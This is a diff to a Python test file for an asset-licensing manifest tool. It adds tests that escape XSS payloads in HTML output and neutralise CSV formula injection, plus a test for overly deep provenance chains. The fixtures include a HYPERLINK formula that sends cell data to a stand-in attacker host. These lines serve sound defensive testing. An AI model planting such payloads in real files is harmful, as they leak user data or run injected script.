@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from pathlib import Path
@@ -223,13 +224,33 @@ def test_manifest_is_deterministic_and_complete(project):
     assert len(csv_lines) == 1 + len(uid)
 
 
-def test_html_manifest_escapes_what_people_typed(project, tmp_path):
+def test_html_and_csv_manifests_escape_what_people_typed(project, tmp_path):
     reg, _uid = project
     reg.register_file(put(tmp_path, "x.png"), "cgs", license_tag="cc0",
                       metadata={"title": "<script>alert(1)</script>", "source_url": "javascript:alert(1)"})
-    page = render_manifest(check_project(reg, "commercial"), "html")
+    reg.register_file(put(tmp_path, "y.png"), "cgs", license_tag="cc0",
+                      metadata={"title": '=HYPERLINK("https://evil.example/?"&A1,"click")', "author": "@SUM(1+1)"})
+    result = check_project(reg, "commercial")
+    page = render_manifest(result, "html")
     assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
     assert 'href="javascript:' not in page
+    rows = list(csv.DictReader(io.StringIO(render_manifest(result, "csv"))))
+    [row] = [r for r in rows if r["path"] == "cgs/y.png"]
+    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
+    assert row["creator"] == "'@SUM(1+1)" and row["credit_line"] == ""
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+
+
+def test_a_chain_deeper_than_the_limit_is_unknown(ws, tmp_path):
+    reg = AssetRegistry("deep", ws=ws, make_thumbnails=False)
+    prev = reg.register_file(put(tmp_path, "m0.safetensors"), "loras", license_tag="mit")["uid"]
+    for i in range(1, 40):
+        prev = reg.register_file(put(tmp_path, f"m{i}.safetensors"), "loras", license_tag="mit",
+                                 metadata={"merged_from": prev})["uid"]
+    res = by_uid(check_project(reg, "commercial"))
+    assert res[prev]["verdict"] == "unknown"
+    assert any(r["code"] == "provenance-too-deep" for r in res[prev]["reasons"])
+    assert sum(1 for r in res.values() if r["verdict"] == "allowed_with_duties") == 32  # the 32 nearest the root
 
 
 def run_cli(*args: str) -> tuple[int, str]:
